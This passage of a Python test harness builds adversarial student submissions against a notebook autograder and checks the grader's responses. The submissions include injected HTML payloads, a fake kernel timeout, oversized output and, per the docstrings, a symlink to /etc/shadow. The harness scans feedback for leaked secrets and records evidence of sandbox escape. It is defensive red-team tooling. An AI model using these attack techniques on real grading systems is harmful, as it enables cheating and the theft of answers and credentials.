        b.prepend(b.first, f"from IPython.display import HTML, display\ndisplay(HTML({HTML_PAYLOAD!r}))\nprint({HTML_PAYLOAD!r})\n")
    elif n == "html_exception":
        b.stubs(body=f"raise ValueError({HTML_PAYLOAD!r})")
    elif n == "html_markdown":
        def edit(cells: list[dict]) -> list[dict]:
            i = next(i for i, c in enumerate(cells) if _nbg(c).get("grade_id") == b.first)
            note = {"cell_type": "markdown", "id": "student-note", "metadata": {}, "source": "My notes\n\n" + HTML_PAYLOAD + "\n"}
            return cells[: i + 1] + [note] + cells[i + 1:]
        b.cell_edits.append(edit)
    elif n == "fake_cell_timeout":
        b.stubs(body='raise CellTimeoutError("No reply from kernel before timeout")')
        b.prepend(b.first, "class CellTimeoutError(Exception):\n    pass\n")
        b.exp["forbid"] = frozenset({"timeout"})
    elif n == "honest_duplicate_answer":
        b.honest()
        b.cell_edits.append(_duplicate(lambda c: _nbg(c).get("grade_id") == b.first))
    elif n == "honest_duplicate_test":
        b.honest()
        b.cell_edits.append(_duplicate(lambda c: _nbg(c).get("grade_id") == b.plan[0].test_id))
    elif n == "honest_bad_timestamp":
        b.honest()
        b.timestamp = "submitted: Thu 15 Jan 2026, around 10am"
    elif n == "honest_nbformat_v3":
        b.honest()
        b.version = 3
    elif n == "honest_large_output":
        b.honest()
        lines = int(float(b.ctx.get("output_mb", 20)) * 1000)  # 1000-byte lines
        b.prepend(b.first, f'for _i in range({lines}):\n    print(f"{{_i:08d}} " + "." * 990)\n')
    else:  # pragma: no cover - the catalogue and this function list the same names
        raise AssertionError(f"no builder for {n}")


def make_attack(name: str, released: Path, master: Path, root: Path, student: str, **ctx) -> Expectation:
    """Write attack ``name`` as ``root/submitted/<student>/<assignment>/`` and return what the grader must do.

    ``ctx``: ``secrets`` (strings of the instructor's environment that must never leak), ``shadow``
    (default ``/etc/shadow``), ``secret_file`` (a private file outside the course, linked by
    ``symlink_shadow``), ``peer`` (another student's notebook, default ``submitted/correct/...``),
    ``output_mb`` (``honest_large_output``, default 20: above both output caps, yet printed well within a cell's time limit on a loaded machine), ``timestamp``.
    """
    if name not in ATTACKS:
        raise ValueError(f"unknown attack {name!r}; choose one of {', '.join(ATTACKS)}")
    b = _Build(name, Path(released), Path(master), Path(root), student, ctx)
    _build(b)
    return b.write()


# ----------------------------------------------------------------------------- checking
def evaluate(exp: Expectation, score: float | None, status: str, reason: str) -> list[str]:
    """What is wrong with this outcome (empty: the grader did what it must)."""
    problems = []
    if status in exp.forbid:
        problems.append(f"status {status!r} is wrong here")
    if exp.score is not None:  # honest mistakes
        if score is None or abs(score - exp.score) > 1e-9:
            problems.append(f"score {score} instead of {exp.score:g}")
        if exp.statuses is not None and status not in exp.statuses:
            problems.append(f"status {status!r} instead of {'/'.join(sorted(exp.statuses))}")
        if exp.note and not re.search(exp.note, reason or "", re.I):
            problems.append(f"no note about it in the reason (/{exp.note}/)")
        return problems
    flagged = status in exp.flag and bool(reason) and (not exp.reason or re.search(exp.reason, reason, re.I) is not None)
    low = score is not None and exp.max_score is not None and score <= exp.max_score + 1e-9
    if not (low or flagged):
        if status in exp.flag:
            problems.append(f"score {score} > {exp.max_score:g} and the {status} reason is not about it (/{exp.reason}/)")
        else:
            problems.append(f"score {score} > {exp.max_score:g} (the empty submission's), status {status!r}")
    return problems


def _output_texts(nb: dict) -> Iterable[tuple[str, str]]:
    """(where, text) of everything a notebook's code printed (not the tracebacks IPython quotes the source in)."""
    for i, cell in enumerate(nb.get("cells", [])):
        for out in cell.get("outputs", []) if cell.get("cell_type") == "code" else []:
            where = f"cell {i} {out.get('output_type')}"
            if "text" in out:
                yield where, _src({"source": out["text"]})
            for mime, value in (out.get("data") or {}).items():
                yield f"{where} {mime}", _src({"source": value}) if isinstance(value, (str, list)) else json.dumps(value)
            if out.get("output_type") == "error":
                yield where, f"{out.get('ename')}: {out.get('evalue')}"


def _live(nb: dict) -> Iterable[tuple[str, str]]:
    for i, cell in enumerate(nb.get("cells", [])):
        if cell.get("cell_type") == "markdown":
            yield f"cell {i} markdown", _src(cell)
        for out in cell.get("outputs", []) if cell.get("cell_type") == "code" else []:
            for mime, value in (out.get("data") or {}).items():
                if mime in _LIVE_MIME:
                    yield f"cell {i} {out.get('output_type')} {mime}", _src({"source": value})


def scan_leaks(root: Path, exp: Expectation) -> list[str]:
    """Secrets and live HTML in this student's feedback/ and autograded/ files (links are not followed)."""
    root = Path(root)
    found: list[str] = []
    for top in ("feedback", "autograded"):
        folder = root / top / exp.student / exp.assignment
        if not folder.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(folder):
            for fname in files:
                path = Path(dirpath) / fname
                rel = f"{top}/{path.relative_to(folder)}"
                try:
                    st = path.lstat()
                except OSError:
                    continue
                if not stat.S_ISREG(st.st_mode):
                    continue
                raw = path.read_bytes()
                text = raw.decode("utf-8", "replace")
                if fname.endswith(".ipynb"):
                    try:
                        nb = json.loads(text)
                    except ValueError:
                        nb = {}
                    pieces = list(_output_texts(nb))
                    live = list(_live(nb))
                else:
                    pieces = [("", _html.unescape(text) if fname.endswith(".html") else text)]
                    live = [("", text)] if fname.endswith(".html") else []
                for secret in exp.secrets:
                    hits = [w for w, t in pieces if secret in t]
                    if hits:
                        found.append(f"{rel}{' (' + hits[0] + ')' if hits[0] else ''}: {secret[:60]!r}")
                for pattern in exp.live_html:
                    hits = [w for w, t in live if re.search(pattern, t, re.I)]
                    if hits:
                        found.append(f"{rel}{' (' + hits[0] + ')' if hits[0] else ''}: live HTML /{pattern}/")
    return found


def collect_evidence(root: Path, assignment: str, student: str) -> list[str]:
    """What the student's code managed, from the files and outputs it left in autograded/."""
    folder = Path(root) / "autograded" / student / assignment
    notes = []
    proof = folder / "escaped.json"
    if proof.is_file():
        try:
            data = json.loads(proof.read_text(encoding="utf-8"))
        except ValueError:
            data = {}
        what = [f"uid {data.get('uid')}"]
        if data.get("instructor_env"):
            what.append(f"instructor env {sorted(data['instructor_env'])[:4]}")
        if data.get("sources"):
            what.append(f"{len(data['sources'])} gradebook sources")
        notes.append("student code ran OUTSIDE the sandbox: " + ", ".join(what))
    nb_path = folder / f"{assignment}.ipynb"
    try:
        nb = json.loads(nb_path.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return notes
    for _where, text in _output_texts(nb):
        if "HARVEST-REPORT " in text:
            try:
                rep = json.loads(text.split("HARVEST-REPORT ", 1)[1].splitlines()[0])
                readable = [p for p, v in rep["files"].items() if v.endswith("bytes") and "timestamp" not in p]
                notes.append(f"read {readable}, ran {rep['solutions']} leaked answers")
            except (ValueError, KeyError, IndexError):
                pass
        if "SHADOW-PAYLOAD" in text:
            notes.append("a shadowing file ran inside the kernel")
        if "RAW-CELL" in text or "HISTORY" in text:
            notes.append("student code printed cell sources")
    return list(dict.fromkeys(notes))


# ----------------------------------------------------------------------------- running a corpus
@dataclass(frozen=True)
class CorpusPlan:
    """Which attacks on which assignments, and how to grade them."""

    assignments: tuple[str, ...]
    attacks: dict[str, tuple[str, ...]]  # assignment -> attack names
    plain: tuple[str, ...] = ()  # attacks also graded by plain `nbgrader autograde` (on the first assignment)
    jobs: int = 2
    controls: bool = True  # a `correct` submission on the first assignment (the tests can pass at all)
    run_timeout: float = 900.0  # s, one `grade autograde` run
    isolated_timeout: float = 300.0  # s, one isolated attack

    @classmethod
    def default(cls, assignments: Iterable[str], *, only: Iterable[str] | None = None, jobs: int = 2) -> "CorpusPlan":
        names = sorted(assignments)
        chosen = set(only) if only is not None else set(ATTACKS)
        unknown = chosen - set(ATTACKS)
        if unknown:
            raise ValueError(f"unknown attacks: {', '.join(sorted(unknown))}")
        per = {a: tuple(n for n in attacks_for(i) if n in chosen) for i, a in enumerate(names)}
        return cls(tuple(names), per, tuple(n for n in per[names[0]] if ATTACKS[n].plain), jobs)


def _bin(python: str, name: str) -> str:
    return str(Path(python).parent / name)


def _kill_leftovers(root: Path) -> list[int]:
    """Kill processes whose working folder is inside ``root`` (an orphaned launcher and its sandbox)."""
    killed = []
    root = Path(root).resolve()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cwd = Path(os.readlink(entry / "cwd"))
        except OSError:
            continue
        if cwd == root or root in cwd.parents:
            try:
                os.kill(int(entry.name), signal.SIGKILL)
                killed.append(int(entry.name))
            except OSError:
                pass
    return killed


def run_bounded(args: list[str], cwd: Path, env: dict[str, str], timeout: float) -> tuple[int | None, str, float]:
    """Run a command in its own process group: (return code, or None if it had to be killed; output; seconds)."""
    start = time.monotonic()
    proc = subprocess.Popen(args, cwd=cwd, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                            start_new_session=True)
    try:
        out, _ = proc.communicate(timeout=timeout)
        return proc.returncode, out, time.monotonic() - start
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        out, _ = proc.communicate()
        return None, out + f"\n[killed after {timeout:g} s]", time.monotonic() - start


def prepare_course(dest: Path, grading: Path, assignments: Iterable[str], *, python: str, env: dict[str, str]) -> Path:
    """A fresh course folder: ``source/`` and ``nbgrader_config.py`` copied, every assignment generated."""
    root = Path(dest)
    shutil.copytree(Path(grading) / "source", root / "source")
    shutil.copy(Path(grading) / "nbgrader_config.py", root)
    for name in assignments:
        code, out, _ = run_bounded([_bin(python, "nbgrader"), "generate_assignment", name, "--force"], root, env, 300)
        if code != 0:
            raise RuntimeError(f"nbgrader generate_assignment {name} failed:\n{out[-3000:]}")
    return root


def populate(root: Path, assignment: str, names: Iterable[str], *, baselines: Iterable[str] = BASELINES, **ctx) -> dict[str, Expectation]:
    """The baselines (``empty`` always, ``correct`` if asked) and every named attack, each as its own student.

    ``symlink_peer`` links to the ``correct`` student's notebook, which is then written (and graded) too.
    """
    root = Path(root)
    names = list(names)
    released = root / "release" / assignment / f"{assignment}.ipynb"
    master = root / "source" / assignment / f"{assignment}.ipynb"
    released_text = released.read_text(encoding="utf-8")
    mnb = json.loads(master.read_text(encoding="utf-8"))
    hidden = tuple(hidden_lines(mnb, released_text)) + tuple(ctx.get("secrets", ()))
    unknown = set(baselines) - set(BASELINES)
    if unknown:
        raise ValueError(f"unknown baselines {sorted(unknown)}: choose from {BASELINES}")
    wanted = ["empty"] + (["correct"] if "correct" in baselines else [])
    if "symlink_peer" in names and "correct" not in wanted:
        wanted.append("correct")
    expected: dict[str, Expectation] = {}
    for student in wanted:
        kind = "wrong" if student == "empty" else "correct"
        want = make_submission(kind, released, master, root, student)
        secrets = hidden + (tuple(solution_lines(mnb, released_text)) if kind == "wrong" else ())
        expected[student] = Expectation(student, assignment, student, max_score=None, flag=frozenset(), score=want.score,
                                        statuses=frozenset({want.status}), secrets=secrets)
    for name in names:
        expected[name] = make_attack(name, released, master, root, name, **ctx)
    return expected


def grade(root: Path, assignment: str, students: list[str], *, python: str, env: dict[str, str], jobs: int, timeout: float,
          plain: bool = False, feedback: bool = True) -> tuple[bool, str, float]:
    """Grade ``students`` (course command, or plain nbgrader); (finished in time, output, seconds)."""
    if plain:
        code, out, seconds = run_bounded([_bin(python, "nbgrader"), "autograde", assignment, "--force"], root, env, timeout)
        if code is not None and feedback:
            c2, o2, s2 = run_bounded([_bin(python, "nbgrader"), "generate_feedback", assignment, "--force"], root, env, timeout)
            out, seconds = out + o2, seconds + s2
    else:
        args = [python, "-m", "course_utils", "grade", "autograde", assignment, "--course", str(root), "--jobs", str(jobs), "--quiet"]
        args += [a for s in students for a in ("--student", s)]
        if not feedback:
            args.append("--no-feedback")
        code, out, seconds = run_bounded(args, root, env, timeout)
    if code is None:
        _kill_leftovers(root)
    return code is not None, out, seconds


def read_rows(root: Path, assignment: str, *, python: str, env: dict[str, str]) -> dict[str, dict]:
    """``grade export`` for one assignment: student -> CSV row (score, status, reason)."""
    import csv

    out_csv = Path(root) / "reports" / f"adversarial_{assignment}.csv"
    code, out, _ = run_bounded([python, "-m", "course_utils", "grade", "export", assignment, "--course", str(root), "--output", str(out_csv),
                         "--figure", str(out_csv.with_suffix(".png"))], root, env, 300)
    if code != 0:
        raise RuntimeError(f"grade export {assignment} failed:\n{out[-3000:]}")
    with open(out_csv, newline="", encoding="utf-8") as fh:
        return {row["student_id"]: row for row in csv.DictReader(fh)}


def _outcomes(root: Path, expected: dict[str, Expectation], rows: dict[str, dict], mode: str, hung: dict[str, float],
              seconds: dict[str, float]) -> list[Outcome]:
    result = []
    empty = rows.get("empty")
    empty_score = float(empty["score"]) if empty and empty.get("score") not in (None, "") else None
    for student, exp in expected.items():
        row = rows.get(student)
        if student in hung:
            outcome = Outcome(exp.attack, exp.assignment, student, mode, None, None, "hung",
                              f"grading did not finish in {hung[student]:g} s (killed)", seconds.get(student, 0.0), empty_score)
            outcome.problems.append(f"grading hung (killed after {hung[student]:g} s)")
        elif row is None:
            outcome = Outcome(exp.attack, exp.assignment, student, mode, None, None, "absent", "no row in the export", 0.0, empty_score)
            outcome.problems.append("no row in the export")
        else:
            score = float(row["score"]) if row.get("score") not in (None, "") else None
            max_score = float(row["max_score"]) if row.get("max_score") not in (None, "") else None
            outcome = Outcome(exp.attack, exp.assignment, student, mode, score, max_score, row["status"], row.get("reason", ""),
                              seconds.get(student, 0.0), empty_score)
            outcome.problems += evaluate(exp, score, row["status"], row.get("reason", ""))
        outcome.problems += [f"leak: {l}" for l in scan_leaks(root, exp)]
        outcome.evidence = collect_evidence(root, exp.assignment, student)
        result.append(outcome)
    return result


def run_corpus(base: Path, plan: CorpusPlan, *, grading: Path, python: str, env: dict[str, str], ctx: dict | None = None,
               log: Callable[[str], None] = lambda line: None) -> list[Outcome]:
    """Build, grade and check the whole corpus under ``base`` (``course/`` and, for plain runs, ``plain/``)."""
    ctx = dict(ctx or {})
    base = Path(base)
    outcomes: list[Outcome] = []
    root = prepare_course(base / "course", grading, plan.assignments, python=python, env=env)
    for assignment in plan.assignments:
        first = assignment == plan.assignments[0]
        expected = populate(root, assignment, plan.attacks[assignment], baselines=BASELINES if first and plan.controls else ("empty",),
                            **ctx)
        isolated = [s for s in expected if s in ATTACKS and ATTACKS[s].isolate]
        together = [s for s in expected if s not in isolated]
        hung: dict[str, float] = {}
        seconds: dict[str, float] = {}
        for student in isolated:  # one at a time, bounded; feedback comes with the main run
            done, out, took = grade(root, assignment, [student], python=python, env=env, jobs=1, timeout=plan.isolated_timeout,
                                    feedback=False)
            seconds[student] = took
            if not done:
                hung[student] = plan.isolated_timeout
            log(f"{assignment} {student}: {'done' if done else 'HUNG'} in {took:.0f} s")
        done, out, took = grade(root, assignment, together, python=python, env=env, jobs=plan.jobs, timeout=plan.run_timeout)
        log(f"{assignment}: {len(together)} submissions graded with --jobs {plan.jobs} in {took:.0f} s" + ("" if done else " (HUNG)"))
        if "error:" in out and "autograded" not in out:  # the command itself refused (e.g. no sandbox)
            raise RuntimeError(f"grade autograde {assignment} failed:\n{out[-3000:]}")
        if not done:
            hung.update({s: plan.run_timeout for s in together})
        rows = read_rows(root, assignment, python=python, env=env)
        outcomes += _outcomes(root, expected, rows, f"grade --jobs {plan.jobs}", hung, seconds)
    if plan.plain:
        first = plan.assignments[0]
        proot = prepare_course(base / "plain", grading, [first], python=python, env=env)
        expected = populate(proot, first, plan.plain, baselines=("empty",), **ctx)
        done, out, took = grade(proot, first, list(expected), python=python, env=env, jobs=1, timeout=plan.run_timeout, plain=True)
        log(f"{first}: {len(expected)} submissions graded with plain nbgrader autograde in {took:.0f} s" + ("" if done else " (HUNG)"))
        hung = {} if done else {s: plan.run_timeout for s in expected}
        rows = read_rows(proot, first, python=python, env=env)
        outcomes += _outcomes(proot, expected, rows, "nbgrader autograde", hung, {})
    return outcomes


def format_table(outcomes: list[Outcome], *, width: int = 90) -> str:
    """One line per outcome: attack, assignment, mode, score, status, beat empty, verdict, reason or problems."""
    head = f"{'attack':<26} {'as':<3} {'mode':<9} {'score':>5} {'status':<9} {'>empty':<6} {'ok':<3} reason / problems"
    lines = [head, "-" * len(head)]
    for o in outcomes:
        mode = "nbgrader" if o.mode.startswith("nbgrader") else "grade"
        score = "-" if o.score is None else f"{o.score:g}"
        text = "; ".join(o.problems) if o.problems else o.reason
        if o.evidence:
            text += " [" + "; ".join(o.evidence) + "]"
        text = text.replace("\n", " ")
        lines.append(f"{o.attack:<26} {o.assignment[:2]:<3} {mode:<9} {score:>5} {o.status:<9} {'YES' if o.beat_empty else 'no':<6} "
                     f"{'ok' if not o.problems else 'NO':<3} {text[:width] + ('...' if len(text) > width else '')}")
    return "\n".join(lines)
